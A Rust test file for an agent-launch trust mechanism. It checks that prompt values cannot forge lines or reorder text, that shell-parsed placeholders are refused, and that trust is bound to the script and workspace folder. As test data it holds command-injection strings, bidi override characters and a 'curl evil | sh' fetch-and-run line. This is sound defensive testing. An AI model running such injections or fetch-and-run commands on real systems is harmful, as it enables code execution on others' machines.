//! Trust that means what it says (issue 26): a prompt no value of the agents file can forge, no
//! value from session data spliced into code, and trust bound to the workspace folder and to the
//! scripts its command names, not only to the launch line.

use std::path::Path;
use std::time::SystemTime;

use studio_core::agents;
use studio_core::runner::RunEvent;
use studio_core::store::Store;
use studio_core::Workspace;

use crate::harness::{bench, empty_workspace_with_store, wait_for};

fn write_agents(root: &Path, text: &str) {
    std::fs::create_dir_all(root.join(".zibby")).unwrap();
    std::fs::write(root.join(".zibby/studio.toml"), text).unwrap();
}

fn untrusted(store: &Store, workspace: &Workspace, agent: &str) -> Box<agents::Launch> {
    let found = agents::find(workspace.root(), agent, false).unwrap();
    match store.require_trusted(workspace, found.launch).unwrap_err() {
        studio_core::Error::AgentsUntrusted { launch } => launch,
        other => panic!("{other}"),
    }
}

#[test]
fn no_value_of_the_agents_file_can_draw_lines_or_reorder_the_prompt() {
    let (root, workspace, store) = empty_workspace_with_store();
    let long = "k".repeat(5000);
    write_agents(
        root.path(),
        &format!(
            "[[agent]]\nname = \"a\"\nrun = [\"sh\", \"agent.sh\", \"\\u202Ehs.tneg\\u202C\"]\n\
             env = {{ MODEL = \"small\\n  File      /elsewhere/studio.toml\\n(only MODEL is set)\", TOKEN = \"{long}\" }}\n"
        ),
    );
    let launch = untrusted(&store, &workspace, "a");
    let error = store
        .require_trusted(&workspace, (*launch).clone())
        .unwrap_err()
        .to_string();
    let lines = launch.describe_lines();
    for shown in lines.iter().map(|(_, line)| line.as_str()).chain([error.as_str()]) {
        assert!(!shown.contains('\n'), "a value drew a line: {shown}");
        assert!(!shown.contains('\u{202E}'), "a value reorders the text: {shown}");
        assert!(!shown.contains(&long), "a long value is folded: {} chars", shown.len());
    }
    assert!(
        launch.shown.command[2].starts_with("\"\\u202e"),
        "{:?}",
        launch.shown.command
    );
    assert!(
        launch.shown.env.iter().any(|v| v.starts_with("MODEL=small\\n  File")),
        "{:?}",
        launch.shown.env
    );
    assert!(
        launch
            .shown
            .env
            .iter()
            .any(|v| v.ends_with("(5,006 characters in all)")),
        "{:?}",
        launch.shown.env
    );
    assert!(
        launch.shown.inherits.contains("all of the studio's environment"),
        "what the agent inherits is said: {}",
        launch.shown.inherits
    );
}

#[test]
fn a_placeholder_that_a_shell_or_an_interpreter_would_parse_is_refused_as_the_file_is_read() {
    let refused: &[&[&str]] = &[
        &["sh", "-c", "zibby agent run a --node {node}"],
        &["sh", "-c", "{prompt}"],
        &["bash", "-lc", "{session_id}"],
        &["/usr/bin/env", "A=1", "node", "-e", "{node}"],
        &["python3", "-c", "{prompt}"],
        &["node", "--eval=run('{node}')"],
        &["{session_path}/agent.sh"],
    ];
    for command in refused {
        let argv: Vec<String> = command.iter().map(|s| s.to_string()).collect();
        let problem = agents::placeholder_problem(&argv);
        assert!(problem.is_some(), "{command:?} was accepted");
        let toml = format!(
            "[[agent]]\nname = \"a\"\nrun = {}\n",
            serde_json::to_string(command).unwrap()
        );
        let error = agents::parse(Path::new("/w/.zibby/studio.toml"), &toml).unwrap_err();
        assert_eq!(error.code(), "agents_file", "{command:?}: {error}");
        assert!(error.to_string().contains("session data"), "{command:?}: {error}");
        assert!(!error.to_string().contains('\n'), "{command:?}: {error}");
    }
    let accepted: &[&[&str]] = &[
        &[
            "zibby",
            "agent",
            "run",
            "a",
            "--session",
            "{session_id}",
            "--node",
            "{node}",
        ],
        &["zibby", "--node={node}", "--prompt", "{prompt}"],
        &["sh", "-c", "zibby agent run a --node \"$1\"", "sh", "{node}"],
        &["sh", "agent.sh", "-c", "{prompt}"],
        &["python3", "run.py", "-c", "{prompt}"],
        &["zibby", "--session", "pre-{session_id}", "--nodes", "{node}:10"],
        &["zibby", "--node", "{node} --force"],
    ];
    for command in accepted {
        let argv: Vec<String> = command.iter().map(|s| s.to_string()).collect();
        assert_eq!(agents::placeholder_problem(&argv), None, "{command:?}");
    }
}

#[test]
fn a_node_name_from_session_data_runs_as_one_argument_and_never_as_code() {
    let b = bench("studio.db", false);
    let root = b.workspace.root().to_owned();
    write_agents(
        &root,
        "[[agent]]\nname = \"a\"\nrun = [\"true\"]\n\
         replay = [\"sh\", \"-c\", \"printf '%s' \\\"$1\\\" > node.txt\", \"sh\", \"{node}\"]\n",
    );
    let store = b.supervisor.store();
    let forged = "plan; touch pwned $(touch pwned2) `touch pwned3`";
    let request =
        |node: &str| studio_core::app::agent_run_request(store, &b.workspace, "a", None, None, Some(node.to_owned()));
    let Err(studio_core::Error::AgentsUntrusted { launch }) = request(forged) else {
        panic!("asked first")
    };
    assert!(
        launch.shown.command.iter().any(|arg| *arg == format!("\"{forged}\"")),
        "the prompt shows the command as it will run for this node: {:?}",
        launch.shown.command
    );
    store
        .trust_launch(&b.workspace, &launch.digest, SystemTime::now())
        .unwrap();
    let started = b.supervisor.start(request(forged).unwrap()).unwrap();
    let finished = wait_for(
        &b.events,
        |e| matches!(e, RunEvent::RunFinished { run_id, .. } if *run_id == started.run_id),
    );
    assert!(
        matches!(finished, RunEvent::RunFinished { exit_code: Some(0), .. }),
        "{finished:?}"
    );
    assert_eq!(std::fs::read_to_string(root.join("node.txt")).unwrap(), forged);
    for planted in ["pwned", "pwned2", "pwned3"] {
        assert!(!root.join(planted).exists(), "{planted} was created");
    }
    for bad in ["-rf", "../up", "a\u{202E}b", "a\nb"] {
        let error = request(bad).unwrap_err();
        assert_eq!(error.code(), "invalid_node_name", "{bad:?}: {error}");
        assert!(!error.to_string().contains('\n'), "{error}");
    }
}

#[test]
fn trust_covers_the_script_the_command_names_and_the_workspace_folder_itself() {
    let parent = tempfile::TempDir::new().unwrap();
    let path = parent.path().join("repo");
    let clone = |script: &str| {
        std::fs::create_dir_all(path.join(".zibby/output/sessions")).unwrap();
        write_agents(
            &path,
            "[[agent]]\nname = \"a\"\nrun = [\"sh\", \"agent.sh\", \"{prompt}\"]\n",
        );
        std::fs::write(path.join("agent.sh"), script).unwrap();
        Workspace::open(&path).unwrap()
    };
    let store = Store::open(&studio_core::store::StoreLocation::File(
        parent.path().join("studio.db"),
    ))
    .unwrap();
    let workspace = clone("echo hello\n");
    let launch = untrusted(&store, &workspace, "a");
    assert_eq!(launch.files.len(), 1, "{:?}", launch.files);
    assert_eq!(launch.files[0].path, Path::new("agent.sh"));
    assert!(
        launch.shown.covers.iter().any(|c| c.contains("agent.sh")),
        "the prompt says the script is covered: {:?}",
        launch.shown.covers
    );
    store
        .trust_launch(&workspace, &launch.digest, SystemTime::now())
        .unwrap();
    let trusted = |workspace: &Workspace| {
        let found = agents::find(workspace.root(), "a", false).unwrap();
        store.require_trusted(workspace, found.launch).is_ok()
    };
    assert!(trusted(&workspace));

    std::fs::write(path.join("agent.sh"), "curl evil | sh\n").unwrap();
    assert!(!trusted(&workspace), "an edited script is asked about again");
    std::fs::write(path.join("agent.sh"), "echo hello\n").unwrap();
    assert!(trusted(&workspace), "the script as it was trusted");

    // Another repository cloned at the same path, with the very same files.
    std::fs::remove_dir_all(&path).unwrap();
    let recloned = clone("echo hello\n");
    assert_eq!(recloned.root(), workspace.root());
    assert!(
        !trusted(&recloned),
        "a folder made anew at the same path is another workspace"
    );
}
